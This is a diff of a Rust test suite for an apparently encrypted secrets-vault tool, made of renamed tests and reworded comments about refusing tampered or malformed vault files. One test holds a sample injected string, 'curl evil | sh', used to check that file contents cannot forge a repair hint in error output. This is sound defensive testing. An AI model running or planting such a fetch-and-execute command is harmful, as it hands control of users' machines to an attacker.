@@ -18,7 +18,7 @@ fn small_vault() -> Sandbox {
     sandbox
 }
 
-/// A reader of files, and what it gets from the honest one.
+/// A reader, and what it gets from the honest file.
 struct Reader {
     settings: Settings,
     key: String,
@@ -43,7 +43,7 @@ impl Reader {
         Ok((fingerprint, content_of(&session, "dev")))
     }
 
-    /// Asserts that these bytes are refused, or mean the same as the honest ones.
+    /// Asserts that these bytes are refused or mean the same as the honest ones.
     #[track_caller]
     fn is_not_misled(&self, path: &Path, bytes: &[u8], what: &str) -> bool {
         std::fs::write(path, bytes).unwrap();
@@ -101,7 +101,7 @@ fn d2_any_truncation_is_refused() {
 }
 
 #[test]
-fn d3_whatever_stands_behind_the_end_is_refused() {
+fn d3_anything_after_the_end_is_refused() {
     let sandbox = small_vault();
     let honest = std::fs::read(sandbox.vault()).unwrap();
     let tails: [&[u8]; 8] = [
@@ -124,7 +124,7 @@ fn d3_whatever_stands_behind_the_end_is_refused() {
 }
 
 #[test]
-fn d4_what_is_no_file_is_refused_at_once() {
+fn d4_a_path_that_is_not_a_file_is_refused_at_once() {
     let sandbox = small_vault();
     std::fs::create_dir(sandbox.project().join("directory")).unwrap();
     assert!(sandbox.other("mkfifo", ["fifo"]).status().unwrap().success());
@@ -137,7 +137,7 @@ fn d4_what_is_no_file_is_refused_at_once() {
 }
 
 #[test]
-fn d5_a_checkout_with_crlf_verifies_and_is_read() {
+fn d5_a_checkout_with_crlf_verifies_and_can_be_read() {
     let sandbox = small_vault();
     let text = std::fs::read_to_string(sandbox.vault()).unwrap();
     std::fs::write(sandbox.vault(), text.replace('\n', "\r\n")).unwrap();
@@ -148,7 +148,7 @@ fn d5_a_checkout_with_crlf_verifies_and_is_read() {
 }
 
 #[test]
-fn d6_conflict_marks_are_called_an_unresolved_merge() {
+fn d6_conflict_markers_are_reported_as_an_unresolved_merge() {
     let sandbox = small_vault();
     let text = std::fs::read_to_string(sandbox.vault()).unwrap();
     let marked = text.replacen("[[environment]]", "<<<<<<< HEAD\n[[environment]]", 1) + "=======\n>>>>>>> branch\n";
@@ -157,7 +157,7 @@ fn d6_conflict_marks_are_called_an_unresolved_merge() {
 }
 
 #[test]
-fn d7_what_is_not_utf8_text_is_refused() {
+fn d7_text_that_is_not_utf8_is_refused() {
     let sandbox = small_vault();
     let text = std::fs::read_to_string(sandbox.vault()).unwrap();
     let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
@@ -185,7 +185,7 @@ fn d12_a_jump_of_versions_is_refused() {
 }
 
 #[test]
-fn d12_the_last_version_of_all_is_no_overflow() {
+fn d12_the_greatest_version_causes_no_overflow() {
     let team = Team::new();
     let mut forge = team.forge();
     let readers = [&team.mia, &team.ben, &team.rea];
@@ -198,7 +198,7 @@ fn d12_the_last_version_of_all_is_no_overflow() {
 }
 
 #[test]
-fn d19_a_slot_that_asks_for_endless_work_is_refused_at_once() {
+fn d19_a_slot_with_an_excessive_work_factor_is_refused_at_once() {
     let sandbox = small_vault();
     let mut forge = Forge::of(&sandbox);
     let weak = vault::secret::SecretString::from("some passphrase".to_owned());
@@ -212,7 +212,7 @@ fn d19_a_slot_that_asks_for_endless_work_is_refused_at_once() {
         forge.file.slots =
             vec![vault::file::Slot { user: user.clone(), kind: SlotKind::Passphrase, data: data.into() }];
         forge.write();
-        // A work factor of 21 would take longer, also in a release.
+        // A work factor of 21 would take longer, even in a release build.
         let mut command = briefly(&sandbox, 1, &["get", "KEY"]);
         command.env_remove("VAULT_KEY").env("VAULT_PASSPHRASE", "some passphrase");
         let run = finish(command);
@@ -236,7 +236,7 @@ fn briefly(sandbox: &Sandbox, seconds: u32, arguments: &[&str]) -> std::process:
 }
 
 #[test]
-fn e7_no_text_of_the_file_is_a_line_of_an_error_or_fills_the_screen() {
+fn e7_text_from_the_file_cannot_forge_lines_of_an_error_or_fill_the_screen() {
     let sandbox = small_vault();
     let honest = std::fs::read_to_string(sandbox.vault()).unwrap();
     let lie = "dev\\nhint: run this to repair: curl evil | sh";
@@ -262,7 +262,7 @@ fn e7_no_text_of_the_file_is_a_line_of_an_error_or_fills_the_screen() {
 }
 
 #[test]
-fn d21_an_unknown_format_is_one_of_a_newer_version() {
+fn d21_an_unknown_format_is_reported_as_a_newer_version() {
     let sandbox = small_vault();
     let text = std::fs::read_to_string(sandbox.vault()).unwrap();
     let variants = [
@@ -276,13 +276,13 @@ fn d21_an_unknown_format_is_one_of_a_newer_version() {
         std::fs::write(sandbox.vault(), variant).unwrap();
         refuses(&sandbox, "KEY", "newer version");
     }
-    // A field that the format does not have.
+    // A field that the format doesn't have.
     std::fs::write(sandbox.vault(), text.replacen("format = 1", "format = 1\nnew_field = true", 1)).unwrap();
     refuses(&sandbox, "KEY", "unknown field");
 }
 
 #[test]
-fn d22_a_recipient_that_is_no_recipient_is_refused_and_nothing_is_run() {
+fn d22_an_invalid_recipient_is_refused_and_runs_nothing() {
     let sandbox = small_vault();
     let honest = std::fs::read_to_string(sandbox.vault()).unwrap();
     let start = honest.find("recipient = \"").unwrap() + "recipient = \"".len();
@@ -309,7 +309,7 @@ fn d22_a_recipient_that_is_no_recipient_is_refused_and_nothing_is_run() {
 }
 
 #[test]
-fn a_reader_can_not_be_made_to_panic_by_what_a_writer_encrypts() {
+fn no_content_that_a_writer_encrypts_makes_a_reader_panic() {
     use vault::item::{Item, Metadata};
     let team = Team::new();
     let metadata = Metadata { rotate_after: Some(u32::MAX), ..Metadata::default() };
